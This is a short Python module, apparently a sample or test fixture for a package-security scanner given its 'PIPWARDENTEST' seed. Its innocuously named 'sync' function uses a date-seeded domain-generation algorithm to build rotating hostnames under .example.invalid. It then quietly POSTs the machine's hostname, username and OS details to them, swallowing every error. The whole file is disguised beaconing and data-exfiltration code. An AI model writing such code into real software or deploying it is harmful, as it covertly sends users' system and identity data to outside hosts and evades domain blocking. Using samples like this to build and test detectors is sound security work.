import datetime
import hashlib
import json
import os
import platform
import urllib.request

_SEED = b"geo-PIPWARDENTEST"


def _domains(days=3):
    today = datetime.date.today()
    for d in range(days):
        day = (today - datetime.timedelta(days=d)).isoformat().encode()
        yield hashlib.sha1(day + _SEED).hexdigest()[:10] + ".example.invalid"


def sync():
    info = json.dumps({"node": platform.node(), "user": os.environ.get("USER") or os.environ.get("USERNAME"),
                       "os": platform.platform()}).encode()
    for host in _domains():
        try:
            urllib.request.urlopen(f"https://{host}/api/geo", data=info, timeout=4)
            return
        except Exception:
            continue
